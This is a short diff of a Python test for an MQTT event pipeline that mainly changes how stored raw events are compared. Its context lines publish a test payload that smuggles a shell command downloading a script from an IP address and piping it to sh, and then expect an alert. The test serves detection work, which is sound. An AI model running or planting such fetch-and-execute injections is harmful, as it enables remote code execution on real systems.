@@ -186,7 +186,8 @@ def test_mqtt_payload_that_is_not_json(here: Everything) -> None:
     here.publish(*payloads)
     counts = here.judged("mqtt", mqtt + len(payloads))
     assert not counts["dropped"]
-    assert sorted(event.raw for event in here.agent.stored("mqtt")[-4:]) == sorted(payloads)
+    stored = [event.raw for event in here.agent.stored("mqtt")[-4:]]
+    assert {raw.strip(b"\n") for raw in stored} == set(payloads)  # an empty event takes a newline's place in the log
     here.publish(b'{"cmd": "; wget http://203.0.113.9/x.sh -O- | sh"}', topic="plant/press/2/cmd")
     here.judged("mqtt", mqtt + len(payloads) + 1)
     until("the alert of the good one", lambda: any(a["source"] == "mqtt" for a in here.alerts(20)))
